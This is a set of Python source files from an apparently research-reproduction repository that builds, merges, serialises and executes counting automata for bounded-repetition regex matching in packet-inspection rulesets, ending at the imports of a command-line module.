        if isinstance(node, Literal):
            entry, exit_ = self.state(), self.state()
            self.arcs.append(_Arc(entry, exit_, node.charclass))
            return entry, exit_
        if isinstance(node, Concat):
            entry, exit_ = self.build(node.parts[0])
            for part in node.parts[1:]:
                nxt_entry, nxt_exit = self.build(part)
                self.eps(exit_, nxt_entry)
                exit_ = nxt_exit
            return entry, exit_
        if isinstance(node, Alternation):
            entry, exit_ = self.state(), self.state()
            for branch in node.branches:
                b_entry, b_exit = self.build(branch)
                self.eps(entry, b_entry)
                self.eps(b_exit, exit_)
            return entry, exit_
        if isinstance(node, Repeat):
            return self._repeat(node)
        raise TypeError(f"unknown AST node: {node!r}")

    # -- repeats -----------------------------------------------------------

    def _repeat(self, node: Repeat) -> tuple[int, int]:
        low, high = node.low, node.high
        if self._countable(node):
            return self._counting_arc(node.body.charclass, low, high)  # type: ignore[union-attr]
        if (low, high) == (0, None):
            return self._star(node.body)
        if (low, high) == (1, None):
            return self._plus(node.body)
        if high is None:
            entry, exit_ = self._chain(node.body, low)
            star_entry, star_exit = self._star(node.body)
            self.eps(exit_, star_entry)
            return entry, star_exit
        if high == 0:
            return self.build(Empty())
        entry, exit_ = (self._chain(node.body, low) if low else self.build(Empty()))
        for _ in range(high - low):
            opt_entry, opt_exit = self.build(node.body)
            self.eps(opt_entry, opt_exit)
            self.eps(exit_, opt_entry)
            exit_ = opt_exit
        return entry, exit_

    def _countable(self, node: Repeat) -> bool:
        if not isinstance(node.body, Literal):
            return False
        if node.high is None:
            return node.low >= self.min_count_bound
        return node.high >= self.min_count_bound

    def _counting_arc(self, label: CharClass, low: int, high: int | None) -> tuple[int, int]:
        entry, exit_ = self.state(), self.state()
        effective_low = max(1, low)
        self.arcs.append(_Arc(entry, exit_, label, counting=(effective_low, high)))
        if low == 0:
            self.eps(entry, exit_)
        return entry, exit_

    def _chain(self, body: AstNode, count: int) -> tuple[int, int]:
        entry, exit_ = self.build(body)
        for _ in range(count - 1):
            nxt_entry, nxt_exit = self.build(body)
            self.eps(exit_, nxt_entry)
            exit_ = nxt_exit
        return entry, exit_

    def _star(self, body: AstNode) -> tuple[int, int]:
        entry, exit_ = self.state(), self.state()
        b_entry, b_exit = self.build(body)
        self.eps(entry, b_entry)
        self.eps(b_exit, exit_)
        self.eps(entry, exit_)
        self.eps(b_exit, b_entry)
        return entry, exit_

    def _plus(self, body: AstNode) -> tuple[int, int]:
        entry, exit_ = self.state(), self.state()
        b_entry, b_exit = self.build(body)
        self.eps(entry, b_entry)
        self.eps(b_exit, exit_)
        self.eps(b_exit, b_entry)
        return entry, exit_


def build_counting_fsa(
    pattern: str,
    min_count_bound: int = DEFAULT_MIN_COUNT_BOUND,
) -> CountingFsa:
    """Compile a pattern into an ε-free counting NFA."""
    return build_counting_fsa_from_ast(parse(pattern), pattern, min_count_bound)


def build_counting_fsa_from_ast(
    ast: AstNode,
    pattern: str,
    min_count_bound: int = DEFAULT_MIN_COUNT_BOUND,
) -> CountingFsa:
    """Compile an already-parsed (and possibly optimized) AST.

    The pipeline's counting compile path parses and case-folds through
    the ordinary frontend (with loop expansion disabled, so repeats
    survive to this builder) and hands the AST here."""
    builder = _Builder(min_count_bound=min_count_bound)
    entry, exit_ = builder.build(ast)
    return _remove_epsilon(builder, entry, exit_, pattern)


def _remove_epsilon(builder: _Builder, initial: int, final: int, pattern: str) -> CountingFsa:
    """Closure-based ε-removal over mixed plain/counting arcs."""
    eps_adj: dict[int, list[int]] = {}
    out_arcs: dict[int, list[_Arc]] = {}
    for arc in builder.arcs:
        if arc.label is None:
            eps_adj.setdefault(arc.src, []).append(arc.dst)
        else:
            out_arcs.setdefault(arc.src, []).append(arc)

    def closure(state: int) -> set[int]:
        seen = {state}
        stack = [state]
        while stack:
            current = stack.pop()
            for nxt in eps_adj.get(current, ()):
                if nxt not in seen:
                    seen.add(nxt)
                    stack.append(nxt)
        return seen

    closures = [closure(q) for q in range(builder.num_states)]

    fsa = CountingFsa(num_states=builder.num_states, initial=initial, pattern=pattern)
    seen_plain: set[tuple[int, int, int]] = set()
    seen_counting: set[tuple[int, int, int, int, int | None]] = set()
    for q in range(builder.num_states):
        for p in closures[q]:
            for arc in out_arcs.get(p, ()):
                assert arc.label is not None
                if arc.counting is None:
                    key = (q, arc.dst, arc.label.mask)
                    if key not in seen_plain:
                        seen_plain.add(key)
                        fsa.plain.append((q, arc.dst, arc.label))
                else:
                    low, high = arc.counting
                    ckey = (q, arc.dst, arc.label.mask, low, high)
                    if ckey not in seen_counting:
                        seen_counting.add(ckey)
                        fsa.counting.append(
                            CountingTransition(q, arc.dst, arc.label, low, high)
                        )
        if final in closures[q]:
            fsa.finals.add(q)

    return _trim(fsa)


def _trim(fsa: CountingFsa) -> CountingFsa:
    """Drop states unreachable from the initial state, renumber densely."""
    adjacency: dict[int, list[int]] = {}
    for src, dst, _ in fsa.plain:
        adjacency.setdefault(src, []).append(dst)
    for arc in fsa.counting:
        adjacency.setdefault(arc.src, []).append(arc.dst)
    seen = {fsa.initial}
    stack = [fsa.initial]
    while stack:
        state = stack.pop()
        for nxt in adjacency.get(state, ()):
            if nxt not in seen:
                seen.add(nxt)
                stack.append(nxt)
    order = sorted(seen)
    rename = {old: new for new, old in enumerate(order)}

    out = CountingFsa(num_states=len(order), initial=rename[fsa.initial], pattern=fsa.pattern)
    out.finals = {rename[f] for f in fsa.finals if f in seen}
    out.plain = [
        (rename[src], rename[dst], label)
        for src, dst, label in fsa.plain
        if src in seen and dst in seen
    ]
    out.counting = [
        CountingTransition(rename[a.src], rename[a.dst], a.label, a.low, a.high)
        for a in fsa.counting
        if a.src in seen and a.dst in seen
    ]
    out.validate()
    return out
