"""Algorithm 1 generalised to counting NFAs.

Structurally identical to :mod:`repro.mfsa.merge` — same walks, Merging
Structures and consistent (bijective) relabeling — but over the mixed
arc model: an arc's *merge key* is its label mask for plain arcs and
``(label, low, high)`` for counting arcs, so counting arcs merge only
when their class **and** bounds coincide (the exact-set rule of §III-A
extended to counters).  Per-rule projections remain isomorphic to the
input counting NFAs for the same reason as in the plain merger.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Sequence

from repro.counting.mfsa import CMTransition, CountingMfsa
from repro.counting.model import CountingFsa
from repro.mfsa.model import MTransition


@dataclass(frozen=True)
class _Arc:
    """Unified arc view used by the walk: plain or counting."""

    src: int
    dst: int
    key: tuple


def _arcs_of_cfsa(cfsa: CountingFsa) -> list[_Arc]:
    arcs = [_Arc(src, dst, ("#plain", label.mask)) for src, dst, label in cfsa.plain]
    arcs += [
        _Arc(a.src, a.dst, ("#count", a.label.mask, a.low, a.high)) for a in cfsa.counting
    ]
    return arcs


def _arcs_of_cmfsa(z: CountingMfsa) -> list[_Arc]:
    arcs = [_Arc(t.src, t.dst, ("#plain", t.label.mask)) for t in z.plain]
    arcs += [_Arc(t.src, t.dst, t.key()) for t in z.counting]
    return arcs


@dataclass
class CountingMergeReport:
    input_states: int = 0
    output_states: int = 0
    input_transitions: int = 0
    output_transitions: int = 0
    merged_plain: int = 0
    merged_counting: int = 0

    @property
    def state_compression(self) -> float:
        if self.input_states == 0:
            return 0.0
        return 100.0 * (self.input_states - self.output_states) / self.input_states


def merge_counting_fsas(
    items: Sequence[tuple[int, CountingFsa]],
    report: CountingMergeReport | None = None,
) -> CountingMfsa:
    """Merge ``(rule_id, counting NFA)`` pairs into one counting MFSA."""
    if not items:
        raise ValueError("cannot merge an empty ruleset")
    rules = [rule for rule, _ in items]
    if len(set(rules)) != len(rules):
        raise ValueError("duplicate rule ids in merge input")

    stats = report if report is not None else CountingMergeReport()
    stats.input_states = sum(cfsa.num_states for _, cfsa in items)
    stats.input_transitions = sum(cfsa.num_transitions for _, cfsa in items)

    first_rule, first = items[0]
    z = _seed(first_rule, first)
    for rule, cfsa in items[1:]:
        _merge_one(z, rule, cfsa, stats)

    stats.output_states = z.num_states
    stats.output_transitions = z.num_transitions
    z.validate()
    return z


def _seed(rule: int, cfsa: CountingFsa) -> CountingMfsa:
    z = CountingMfsa(num_states=cfsa.num_states)
    z.initials[rule] = cfsa.initial
    z.finals[rule] = set(cfsa.finals)
    if cfsa.pattern is not None:
        z.patterns[rule] = cfsa.pattern
    bel = frozenset({rule})
    z.plain = [MTransition(src, dst, label, bel) for src, dst, label in cfsa.plain]
    z.counting = [
        CMTransition(a.src, a.dst, a.label, a.low, a.high, bel) for a in cfsa.counting
    ]
    return z


def _merge_one(z: CountingMfsa, rule: int, cfsa: CountingFsa, stats: CountingMergeReport) -> None:
    z_arcs = _arcs_of_cmfsa(z)
    a_arcs = _arcs_of_cfsa(cfsa)

    z_by_key: dict[tuple, list[int]] = {}
    z_out: dict[int, list[int]] = {}
    for i, arc in enumerate(z_arcs):
        z_by_key.setdefault(arc.key, []).append(i)
        z_out.setdefault(arc.src, []).append(i)
    a_out: dict[int, list[int]] = {}
    for i, arc in enumerate(a_arcs):
        a_out.setdefault(arc.src, []).append(i)

    # Walks: identical to the plain merger, over the unified keys.
    structures: list[list[tuple[int, int]]] = []  # lists of (zi, ai)
    seen: set[tuple[int, int]] = set()
    for ai, arc in enumerate(a_arcs):
        for zi in z_by_key.get(arc.key, ()):
            if (zi, ai) in seen:
                continue
            walk: list[tuple[int, int]] = []
            visited: set[tuple[int, int]] = set()
            cur = (zi, ai)
            while cur not in visited:
                visited.add(cur)
                walk.append(cur)
                nxt = _next_pair(z_arcs, z_out, a_arcs, a_out, cur)
                if nxt is None:
                    break
                cur = nxt
            seen.update(walk)
            structures.append(walk)

    mapping = _consistent(z_arcs, a_arcs, structures)

    relabel = dict(mapping)
    for state in range(cfsa.num_states):
        if state not in relabel:
            relabel[state] = z.add_state()

    plain_index = {(t.src, t.dst, t.label.mask): i for i, t in enumerate(z.plain)}
    for src, dst, label in cfsa.plain:
        key = (relabel[src], relabel[dst], label.mask)
        existing = plain_index.get(key)
        if existing is not None:
            old = z.plain[existing]
            z.plain[existing] = MTransition(old.src, old.dst, old.label, old.bel | {rule})
            stats.merged_plain += 1
        else:
            z.plain.append(MTransition(key[0], key[1], label, frozenset({rule})))
            plain_index[key] = len(z.plain) - 1

    counting_index = {
        (t.src, t.dst, t.label.mask, t.low, t.high): i for i, t in enumerate(z.counting)
    }
    for arc in cfsa.counting:
        key = (relabel[arc.src], relabel[arc.dst], arc.label.mask, arc.low, arc.high)
        existing = counting_index.get(key)
        if existing is not None:
            old = z.counting[existing]
            z.counting[existing] = CMTransition(
                old.src, old.dst, old.label, old.low, old.high, old.bel | {rule}
            )
            stats.merged_counting += 1
        else:
            z.counting.append(
                CMTransition(key[0], key[1], arc.label, arc.low, arc.high, frozenset({rule}))
            )
            counting_index[key] = len(z.counting) - 1

    z.initials[rule] = relabel[cfsa.initial]
    z.finals[rule] = {relabel[f] for f in cfsa.finals}
    if cfsa.pattern is not None:
        z.patterns[rule] = cfsa.pattern


def _next_pair(z_arcs, z_out, a_arcs, a_out, cur):
    zi, ai = cur
    z_state = z_arcs[zi].dst
    a_state = a_arcs[ai].dst
    for a_next in a_out.get(a_state, ()):
        key = a_arcs[a_next].key
        for z_next in z_out.get(z_state, ()):
            if z_arcs[z_next].key == key:
                return (z_next, a_next)
    return None


def _consistent(z_arcs, a_arcs, structures) -> dict[int, int]:
    """Longest-first bijective commit, as in the plain merger."""
    forward: dict[int, int] = {}
    backward: dict[int, int] = {}
    for walk in sorted(structures, key=len, reverse=True):
        for zi, ai in walk:
            bindings = (
                (a_arcs[ai].src, z_arcs[zi].src),
                (a_arcs[ai].dst, z_arcs[zi].dst),
            )
            staged_fwd: dict[int, int] = {}
            staged_bwd: dict[int, int] = {}
            ok = True
            for a, zz in bindings:
                bound_z = forward.get(a, staged_fwd.get(a))
                if bound_z is not None:
                    if bound_z != zz:
                        ok = False
                        break
                    continue
                bound_a = backward.get(zz, staged_bwd.get(zz))
                if bound_a is not None and bound_a != a:
                    ok = False
                    break
                staged_fwd[a] = zz
                staged_bwd[zz] = a
            if not ok:
                break
            for a, zz in bindings:
                forward[a] = zz
                backward[zz] = a
    return forward
