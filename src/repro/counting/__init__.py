"""Counting automata: bounded repetition without loop expansion.

The paper's pipeline *expands* bounded quantifiers (§IV-C, Fig. 5a),
which maximises merging but grows the automaton linearly in the bound —
`[^\\n]{1000}` becomes a thousand states, and the expansion budget in
:mod:`repro.automata.loops` refuses far earlier.  The related work the
paper cites ([12], Turoňová et al.'s counting-set automata) keeps such
loops *compressed* with a counter and matches them in O(1) amortised
work per byte.

This package implements that comparator for the common DPI shape —
bounded repeats of a single character class:

* :mod:`repro.counting.model` — NFA extended with counting transitions;
* :mod:`repro.counting.build` — Thompson-like construction that keeps
  width-1 bounded repeats as counting loops (everything else builds as
  usual) plus the mixed-arc ε-removal;
* :mod:`repro.counting.engine` — the counting-set streaming engine:
  per-counter deques of entry offsets, so counts increment implicitly
  with the stream position.

The counting ablation bench quantifies the trade-off against the
expansion pipeline across bound sizes.
"""

from repro.counting.build import (
    DEFAULT_MIN_COUNT_BOUND,
    build_counting_fsa,
    build_counting_fsa_from_ast,
)
from repro.counting.engine import CountingSetEngine
from repro.counting.merge import CountingMergeReport, merge_counting_fsas
from repro.counting.mfsa import CMTransition, CountingMfsa
from repro.counting.mfsa_engine import CountingMfsaEngine
from repro.counting.model import CountingFsa, CountingTransition

__all__ = [
    "CountingFsa",
    "CountingTransition",
    "CountingSetEngine",
    "build_counting_fsa",
    "build_counting_fsa_from_ast",
    "DEFAULT_MIN_COUNT_BOUND",
    "CMTransition",
    "CountingMfsa",
    "CountingMfsaEngine",
    "CountingMergeReport",
    "merge_counting_fsas",
]
