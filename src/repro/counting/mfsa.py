"""Counting MFSA: the merging model extended to counting transitions.

Combines the paper's two threads that this repository implements
separately — MFSA merging (§III) and counting-set execution (related
work [12]) — into one model: a merged automaton whose transitions are
either plain belonging-annotated arcs (as in :class:`repro.mfsa.model.Mfsa`)
or *counting* arcs ``src ==[L]{low,high}==> dst`` that also carry a
belonging set.  Two counting arcs merge only when label *and* bounds are
identical, the natural extension of the paper's exact-CC rule.

Rulesets like Ranges1 are full of shared counted runs
(``[0-9]{1,3}\\.`` …), so sharing the counter pays exactly like sharing
plain sub-paths; the ablation bench measures it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.labels import CharClass
from repro.mfsa.model import Mfsa, MTransition


@dataclass(frozen=True)
class CMTransition:
    """A counting arc with a belonging set."""

    src: int
    dst: int
    label: CharClass
    low: int
    high: Optional[int]
    bel: frozenset[int]

    def key(self) -> tuple:
        """Merge key: counting arcs merge on identical (label, bounds)."""
        return ("#count", self.label.mask, self.low, self.high)

    def __repr__(self) -> str:
        bound = f"{{{self.low},{'' if self.high is None else self.high}}}"
        ids = ",".join(str(r) for r in sorted(self.bel))
        return f"{self.src}=[{self.label.pattern()}]{bound}|{{{ids}}}=>{self.dst}"


@dataclass
class CountingMfsa:
    """A merged automaton over plain + counting belonging-annotated arcs."""

    num_states: int = 0
    plain: list[MTransition] = field(default_factory=list)
    counting: list[CMTransition] = field(default_factory=list)
    initials: dict[int, int] = field(default_factory=dict)
    finals: dict[int, set[int]] = field(default_factory=dict)
    patterns: dict[int, str] = field(default_factory=dict)

    @property
    def rule_ids(self) -> list[int]:
        return list(self.initials.keys())

    @property
    def num_rules(self) -> int:
        return len(self.initials)

    @property
    def num_transitions(self) -> int:
        return len(self.plain) + len(self.counting)

    def add_state(self) -> int:
        state = self.num_states
        self.num_states += 1
        return state

    def slot_of(self) -> dict[int, int]:
        return {rule: slot for slot, rule in enumerate(self.initials)}

    def initial_mask_per_state(self) -> list[int]:
        slots = self.slot_of()
        masks = [0] * self.num_states
        for rule, state in self.initials.items():
            masks[state] |= 1 << slots[rule]
        return masks

    def final_mask_per_state(self) -> list[int]:
        slots = self.slot_of()
        masks = [0] * self.num_states
        for rule, states in self.finals.items():
            for state in states:
                masks[state] |= 1 << slots[rule]
        return masks

    # -- bridges to the plain model ---------------------------------------

    def plain_view(self) -> Mfsa:
        """An :class:`Mfsa` over only the plain arcs, sharing this
        automaton's state space and rule maps.  This is what the
        counting *engine backend* builds its symbol-indexed tables from:
        plain arcs run through the ordinary activation step while the
        counting arcs run through counter registers on the side."""
        view = Mfsa(num_states=self.num_states)
        view.transitions = list(self.plain)
        view.initials = dict(self.initials)
        view.finals = {rule: set(states) for rule, states in self.finals.items()}
        view.patterns = dict(self.patterns)
        return view

    def to_plain(self) -> Mfsa:
        """The equivalent plain MFSA when no counting arcs exist.

        The compile pipeline calls this after merging so rulesets whose
        bounded repeats all fell below the counting threshold (and thus
        expanded) come out as ordinary :class:`Mfsa` objects — every
        downstream consumer (SFA mappings, dense tier, ANML) then works
        unrestricted."""
        if self.counting:
            raise ValueError(
                f"cannot drop to a plain Mfsa: {len(self.counting)} counting "
                f"arc(s) remain (use expand())"
            )
        return self.plain_view()

    def expand(self) -> Mfsa:
        """Expand every counting arc into an equivalent state chain.

        ``src ==[L]{low,high}==> dst`` becomes the classic unrolled
        path: fresh states ``c_1 … c_{high-1}`` chained under ``L`` with
        an exit arc to ``dst`` after each count in ``[low, high]``;
        unbounded arcs (``high=None``) chain to ``low`` and finish with
        a self-loop state.  All minted arcs carry the counting arc's
        label and belonging set, so activation semantics are preserved
        exactly (property-tested against the register execution).

        This is the *ladder bridge*: it lets a counting-compiled
        automaton run on any plain backend (lazy/numpy/python) when the
        counting backend is unavailable or demoted — at the price of
        exactly the state growth the counting backend avoids.
        """
        out = self.plain_view()
        seen = {(t.src, t.dst, t.label.mask) for t in out.transitions}

        def emit(src: int, dst: int, arc: CMTransition) -> None:
            # An exit arc can coincide with an existing plain arc (same
            # endpoints and label); NFA semantics make the duplicate a
            # no-op, and validate() rejects it, so skip.
            key = (src, dst, arc.label.mask)
            if key not in seen:
                seen.add(key)
                out.transitions.append(MTransition(src, dst, arc.label, arc.bel))

        for arc in self.counting:
            prev = arc.src
            if arc.high is not None:
                for count in range(1, arc.high + 1):
                    if count >= arc.low:
                        emit(prev, arc.dst, arc)
                    if count == arc.high:
                        break
                    nxt = out.add_state()
                    emit(prev, nxt, arc)
                    prev = nxt
            else:
                for _ in range(arc.low - 1):
                    nxt = out.add_state()
                    emit(prev, nxt, arc)
                    prev = nxt
                emit(prev, arc.dst, arc)
                loop = out.add_state()
                emit(prev, loop, arc)
                emit(loop, loop, arc)
                emit(loop, arc.dst, arc)
        out.validate()
        return out

    def validate(self) -> None:
        rules = set(self.initials)
        if set(self.finals) != rules:
            raise ValueError("initials/finals rule sets disagree")
        for rule, state in self.initials.items():
            if not 0 <= state < self.num_states:
                raise ValueError(f"initial of rule {rule} out of range")
        for rule, states in self.finals.items():
            if not states:
                raise ValueError(f"rule {rule} has no final states")
            for state in states:
                if not 0 <= state < self.num_states:
                    raise ValueError(f"final {state} of rule {rule} out of range")
        for t in self.plain:
            if not (0 <= t.src < self.num_states and 0 <= t.dst < self.num_states):
                raise ValueError(f"plain arc {t} out of range")
            if not t.bel <= rules:
                raise ValueError(f"plain arc {t} with unknown rules")
        for t in self.counting:
            if not (0 <= t.src < self.num_states and 0 <= t.dst < self.num_states):
                raise ValueError(f"counting arc {t} out of range")
            if not t.bel <= rules:
                raise ValueError(f"counting arc {t} with unknown rules")
            if t.low < 1 or (t.high is not None and t.high < t.low):
                raise ValueError(f"counting arc {t} with bad bounds")

    def __repr__(self) -> str:
        return (
            f"CountingMfsa(states={self.num_states}, plain={len(self.plain)}, "
            f"counting={len(self.counting)}, rules={self.num_rules})"
        )
