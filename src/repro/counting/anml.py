"""Extended-ANML serialisation of counting MFSAs.

The Automata Processor's ANML actually has a counter element; our
extended dialect (docs/anml_extension.md) adds a ``<counting-transition>``
element to the MFSA format carrying the class, the bounds and the
belonging set::

    <counting-transition from-state="2" to-state="5" symbol-set="[0-9]"
                          low="1" high="3" belongs-to="0 1"/>

Plain arcs reuse the transition-form encoding (state-anchored rather
than STE-homogenised: counting arcs don't fit the one-label-per-state
shape, so the counting dialect serialises arcs directly).  Round-trips
are exact and property-tested.
"""

from __future__ import annotations

import xml.etree.ElementTree as ET

from repro.anml.reader import AnmlFormatError, _parse_symbol_set
from repro.counting.mfsa import CMTransition, CountingMfsa
from repro.mfsa.model import MTransition

FORMAT_VERSION = "1.0"


def write_counting_anml(cmfsa: CountingMfsa, network_id: str = "cmfsa") -> str:
    """Serialise a counting MFSA to the counting-dialect XML string."""
    cmfsa.validate()
    root = ET.Element(
        "counting-automata-network",
        {
            "id": network_id,
            "extended-cmfsa-version": FORMAT_VERSION,
            "states": str(cmfsa.num_states),
        },
    )
    rules_el = ET.SubElement(root, "rules")
    for rule in sorted(cmfsa.initials):
        attrs = {
            "id": str(rule),
            "initial-state": str(cmfsa.initials[rule]),
            "final-states": _ids(cmfsa.finals[rule]),
        }
        pattern = cmfsa.patterns.get(rule)
        if pattern is not None:
            attrs["pattern"] = pattern
        ET.SubElement(rules_el, "rule", attrs)

    for t in cmfsa.plain:
        ET.SubElement(root, "transition", {
            "from-state": str(t.src),
            "to-state": str(t.dst),
            "symbol-set": t.label.pattern(),
            "belongs-to": _ids(t.bel),
        })
    for t in cmfsa.counting:
        attrs = {
            "from-state": str(t.src),
            "to-state": str(t.dst),
            "symbol-set": t.label.pattern(),
            "low": str(t.low),
            "belongs-to": _ids(t.bel),
        }
        if t.high is not None:
            attrs["high"] = str(t.high)
        ET.SubElement(root, "counting-transition", attrs)

    ET.indent(root, space="  ")
    return ET.tostring(root, encoding="unicode") + "\n"


def read_counting_anml(text: str) -> CountingMfsa:
    """Parse the counting dialect back into a CountingMfsa."""
    try:
        root = ET.fromstring(text)
    except ET.ParseError as exc:
        raise AnmlFormatError(f"malformed XML: {exc}") from exc
    if root.tag != "counting-automata-network":
        raise AnmlFormatError(
            f"expected <counting-automata-network>, got <{root.tag}>"
        )

    cmfsa = CountingMfsa(num_states=int(_require(root, "states")))
    rules_el = root.find("rules")
    if rules_el is None:
        raise AnmlFormatError("missing <rules> table")
    for rule_el in rules_el.findall("rule"):
        rule = int(_require(rule_el, "id"))
        cmfsa.initials[rule] = int(_require(rule_el, "initial-state"))
        cmfsa.finals[rule] = {int(v) for v in _require(rule_el, "final-states").split()}
        pattern = rule_el.get("pattern")
        if pattern is not None:
            cmfsa.patterns[rule] = pattern

    for el in root.findall("transition"):
        cmfsa.plain.append(MTransition(
            int(_require(el, "from-state")),
            int(_require(el, "to-state")),
            _parse_symbol_set(_require(el, "symbol-set")),
            frozenset(int(v) for v in _require(el, "belongs-to").split()),
        ))
    for el in root.findall("counting-transition"):
        high = el.get("high")
        cmfsa.counting.append(CMTransition(
            int(_require(el, "from-state")),
            int(_require(el, "to-state")),
            _parse_symbol_set(_require(el, "symbol-set")),
            int(_require(el, "low")),
            int(high) if high is not None else None,
            frozenset(int(v) for v in _require(el, "belongs-to").split()),
        ))
    cmfsa.validate()
    return cmfsa


def _ids(values) -> str:
    return " ".join(str(v) for v in sorted(values))


def _require(element: ET.Element, attr: str) -> str:
    value = element.get(attr)
    if value is None:
        raise AnmlFormatError(f"<{element.tag}> missing required attribute {attr!r}")
    return value
