"""NFA model extended with counting transitions.

A counting transition ``src ==[L]{low,high}==> dst`` consumes between
``low`` and ``high`` consecutive symbols, all members of the class ``L``
(``high is None`` = unbounded).  It is exactly equivalent to the
expanded chain of ``high`` plain transitions (or a loop, when
unbounded), but is stored — and executed — in constant space.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.labels import CharClass


@dataclass(frozen=True)
class CountingTransition:
    """One counting arc; see module docstring."""

    src: int
    dst: int
    label: CharClass
    low: int
    high: Optional[int]

    def __post_init__(self) -> None:
        if self.low < 1:
            raise ValueError("counting transitions require low >= 1 "
                             "(optional repeats add a plain bypass arc)")
        if self.high is not None and self.high < self.low:
            raise ValueError("counting upper bound below lower bound")
        if self.label.is_empty():
            raise ValueError("counting transition label must be non-empty")

    def __repr__(self) -> str:
        bound = f"{{{self.low},{'' if self.high is None else self.high}}}"
        return f"{self.src}=[{self.label.pattern()}]{bound}=>{self.dst}"


@dataclass
class CountingFsa:
    """An ε-free NFA with plain and counting transitions.

    ``plain`` transitions are ``(src, dst, CharClass)`` tuples (the same
    shape as :class:`repro.automata.fsa.Transition` without ε); states
    are dense ints, one initial state, a set of finals.
    """

    num_states: int = 0
    initial: int = 0
    finals: set[int] = field(default_factory=set)
    plain: list[tuple[int, int, CharClass]] = field(default_factory=list)
    counting: list[CountingTransition] = field(default_factory=list)
    pattern: Optional[str] = None

    def add_state(self) -> int:
        state = self.num_states
        self.num_states += 1
        return state

    @property
    def num_transitions(self) -> int:
        return len(self.plain) + len(self.counting)

    def validate(self) -> None:
        def check(state: int) -> None:
            if not 0 <= state < self.num_states:
                raise ValueError(f"state {state} out of range")

        check(self.initial)
        for state in self.finals:
            check(state)
        for src, dst, label in self.plain:
            check(src)
            check(dst)
            if label.is_empty():
                raise ValueError("empty plain-transition label")
        for arc in self.counting:
            check(arc.src)
            check(arc.dst)

    def accepts_empty(self) -> bool:
        return self.initial in self.finals

    def __repr__(self) -> str:
        return (
            f"CountingFsa(states={self.num_states}, plain={len(self.plain)}, "
            f"counting={len(self.counting)})"
        )
