"""The counting-set streaming engine.

Executes a :class:`repro.counting.model.CountingFsa` with Turoňová-style
counting sets: each counting arc keeps a deque of *entry offsets*, so a
path's count is ``position - entry_offset`` and increments implicitly as
the stream advances.  Per input byte the work per counter is O(1)
amortised: stale entries (count > high) pop from the left, one new entry
may push on the right, and the arc's exit state activates iff the oldest
surviving entry has count ≥ low.

Unbounded counters (``high is None``) *saturate*: once the oldest entry
reaches the lower bound the exit stays continuously available while
matching bytes keep arriving, so the deque collapses into one flag.

Matches are ``(rule_id, end_offset)`` pairs, identical to every other
engine; equivalence with the expansion pipeline is property-tested.
"""

from __future__ import annotations

import time
from collections import deque

from repro.counting.model import CountingFsa
from repro.engine.counters import RunResult
from repro.labels import ALPHABET_SIZE


class CountingSetEngine:
    """Streaming matcher over one counting NFA."""

    def __init__(self, cfsa: CountingFsa, rule_id: int = 0) -> None:
        cfsa.validate()
        self.cfsa = cfsa
        self.rule_id = rule_id
        # Per symbol: plain (src, dst) pairs and relevant counting-arc ids.
        self._plain_by_symbol: list[list[tuple[int, int]]] = [[] for _ in range(ALPHABET_SIZE)]
        for src, dst, label in cfsa.plain:
            pair = (src, dst)
            for byte in label.chars():
                self._plain_by_symbol[byte].append(pair)
        self._counter_masks = [arc.label.mask for arc in cfsa.counting]

    def run(self, data: bytes | str, collect_stats: bool = True) -> RunResult:
        payload = data.encode("latin-1") if isinstance(data, str) else data
        cfsa = self.cfsa
        plain_by_symbol = self._plain_by_symbol
        counting = cfsa.counting
        counter_masks = self._counter_masks
        finals = cfsa.finals
        initial = cfsa.initial

        result = RunResult()
        stats = result.stats
        matches = result.matches
        if cfsa.accepts_empty():
            matches.update((self.rule_id, end) for end in range(len(payload) + 1))

        started = time.perf_counter()
        active: set[int] = set()
        entries: list[deque[int]] = [deque() for _ in counting]
        saturated = [False] * len(counting)
        for position, byte in enumerate(payload, start=1):
            bit = 1 << byte
            enabled = plain_by_symbol[byte]
            nxt: set[int] = set()
            for src, dst in enabled:
                if src == initial or src in active:
                    nxt.add(dst)

            for index, arc in enumerate(counting):
                queue = entries[index]
                if not (counter_masks[index] & bit):
                    if queue:
                        queue.clear()
                    saturated[index] = False
                    continue
                # stale entries (count exceeds the upper bound) expire
                if arc.high is not None:
                    while queue and position - queue[0] > arc.high:
                        queue.popleft()
                elif queue and position - queue[0] >= arc.low:
                    # unbounded counter saturates: exit available forever
                    saturated[index] = True
                    queue.clear()
                # a path at the arc's source enters with count 1
                if arc.src == initial or arc.src in active:
                    queue.append(position - 1)
                # exit: some surviving entry has count within the bounds
                if saturated[index] or (queue and position - queue[0] >= arc.low):
                    nxt.add(arc.dst)

            active = nxt
            if active & finals:
                matches.add((self.rule_id, position))
            if collect_stats:
                stats.transitions_examined += len(enabled) + len(counting)
                live = len(active) + sum(len(q) for q in entries) + sum(saturated)
                stats.active_pair_total += live
                if live > stats.max_state_activation:
                    stats.max_state_activation = live

        stats.wall_seconds = time.perf_counter() - started
        stats.chars_processed = len(payload)
        stats.match_count = len(matches)
        return result
