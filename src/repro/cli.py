"""Command-line entry points.

* ``repro-compile`` — compile a ruleset file (one ERE per line) into
  extended-ANML MFSAs, mirroring the paper artifact's compiler driver.
* ``repro-match`` — run iMFAnt over an input stream with compiled MFSAs
  (or compile on the fly), mirroring ``multithreaded_imfant``.
* ``repro-report`` — regenerate the paper's tables/figures as text
  (the per-figure benchmarks with one command).
* ``repro-obs`` — compile + match one ruleset with the observability
  layer on; pretty-print the span tree and metrics, and export Chrome
  trace / JSONL / Prometheus artifacts.
* ``repro-serve`` / ``repro-client`` — resident sharded matching
  service and its protocol client (see docs/serving.md).
* ``repro`` — umbrella dispatcher:
  ``repro <compile|match|report|viz|obs|serve|client> …``.

``repro-compile`` and ``repro-match`` accept ``--trace-out FILE`` and
``--metrics-out FILE`` to capture any production invocation's spans
(Chrome trace-event JSON, Perfetto-loadable) and metrics (Prometheus
text exposition) without changing the command's behaviour.

All commands share one error contract: every deliberate failure is a
:class:`~repro.guard.errors.ReproError`, caught by a single top-level
handler that prints ``error: <stage>: <message>`` to stderr and exits
with the taxonomy code (0 ok, 1 error, 2 usage, 3 partial/quarantined,
4 budget/deadline).  ``repro compile``/``match``/``obs`` accept
``--budget-*``/``--deadline`` resource limits, ``--on-error
{fail,quarantine}`` per-rule failure isolation and (``match``)
``--degrade {off,auto}`` backend degradation — see docs/robustness.md.
"""

from __future__ import annotations

import argparse
import contextlib
import functools
import math
import sys
import time
from pathlib import Path

import repro.obs as obs
